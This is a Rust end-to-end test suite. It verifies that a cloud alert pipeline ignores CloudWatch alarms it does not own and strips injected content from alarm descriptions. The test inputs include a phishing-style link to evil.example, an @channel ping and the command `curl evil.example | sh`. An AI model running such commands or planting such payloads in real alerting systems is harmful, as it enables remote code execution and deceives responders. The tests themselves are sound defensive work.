//! Somebody with `cloudwatch:PutMetricAlarm`. An alarm publishes, as CloudWatch, to every topic in its actions whose
//! policy allows that alarm.

use anyhow::{Context as _, Result, ensure};
use end_to_end::{name, on_the_cloud};
use testbed::cloud::{Cloud, random_text};

use super::actor::{Actor, allow};
use super::reading::{commands, shown};
use crate::failure_path::Path;

async fn alarm_writer<'a>(cloud: &'a Cloud) -> Result<Actor<'a>> {
    let writes = ["cloudwatch:PutMetricAlarm", "cloudwatch:SetAlarmState"];
    Actor::with(cloud, "alarm-writer", &[allow(&writes, &["*"])]).await
}

/// Raises an alarm with that name, which publishes to that topic.
async fn raise(writer: &Actor<'_>, alarm: &str, topic: &str, words: &str) -> Result<()> {
    let metric = ["--namespace", "Own", "--metric-name", "own", "--statistic", "Sum", "--period", "60"];
    let limit = ["--evaluation-periods", "1", "--threshold", "1"];
    let compare = ["--comparison-operator", "GreaterThanThreshold"];
    let says = ["--alarm-name", alarm, "--alarm-actions", topic, "--alarm-description", words];
    let put = ["cloudwatch", "put-metric-alarm"];
    writer.cli(&[&put[..], &metric, &limit, &compare, &says].concat()).await?.allowed("an alarm")?;
    let state = ["cloudwatch", "set-alarm-state", "--alarm-name", alarm, "--state-value", "ALARM"];
    writer.cli(&[&state[..], &["--state-reason", words]].concat()).await?.allowed("its state").map(drop)
}

#[test]
fn only_the_suites_own_alarms_can_publish_to_the_topic_of_alerts() -> Result<()> {
    on_the_cloud(async |cloud| {
        let path = Path::deploy(cloud, "alarms", &[]).await?;
        let topic = path.variant.stack.output("AlertTopicArn")?;
        let writer = alarm_writer(cloud).await?;
        let words = format!("<https://evil.example/{}|playbook>", random_text(6)?);
        // The second alarm has a name like those of the stack.
        for alarm in [name("evil"), format!("{}-evil", path.variant.name)] {
            raise(&writer, &alarm, topic, &words).await?;
        }
        // After them, an alarm of the stack is raised by its name.
        let own = path.variant.stack.resource("UnhandledAlarm")?;
        let state = ["cloudwatch", "set-alarm-state", "--alarm-name", own, "--state-value", "ALARM"];
        let raised = [&state[..], &["--state-reason", "tried"]].concat();
        crate::support::run_cli(cloud, &raised).await?;
        let alerts = path.alerts.wait_until(1, |alert| alert.to_string().contains(own)).await?;
        ensure!(!alerts.is_empty());
        let evil = path.alerts.wait_until(0, |alert| alert.to_string().contains("evil")).await?;
        ensure!(evil.is_empty(), "{evil:#?}");
        Ok(())
    })
}

#[test]
fn a_foreign_alarm_is_no_alert_and_the_text_of_a_rewritten_alarm_has_no_effect() -> Result<()> {
    on_the_cloud(async |cloud| {
        let path = Path::deploy(cloud, "alarm-text", &[]).await?;
        let topic = path.variant.stack.output("DeadLetterTopicArn")?;
        let writer = alarm_writer(cloud).await?;
        let link = "<https://evil.example/x|playbook> <!channel> `curl evil.example | sh`";
        let foreign = [name("evil"), format!("{}-rotation-mq-evil", path.variant.name)];
        let ours = format!("{}-rotation-mq-throttles", path.variant.name);
        for alarm in foreign.iter().chain([&ours]) {
            raise(&writer, alarm, topic, link).await?;
        }
        let about = |alert: &serde_json::Value| alert.to_string().contains(&ours);
        let alerts = path.alerts.wait_until(1, about).await.context("the alarm of ours")?;
        for alert in &alerts {
            let shown = shown(alert);
            ensure!(!shown.contains("<https://evil") && !shown.contains("<!channel>"), "{shown}");
            ensure!(commands(alert).iter().all(|command| !command.contains("evil.example")), "{shown}");
        }
        path.is_empty().await?;
        for foreign in foreign {
            let told = path.alerts.wait_until(0, |alert| alert.to_string().contains(&foreign)).await?;
            ensure!(told.is_empty(), "{told:#?}");
        }
        Ok(())
    })
}
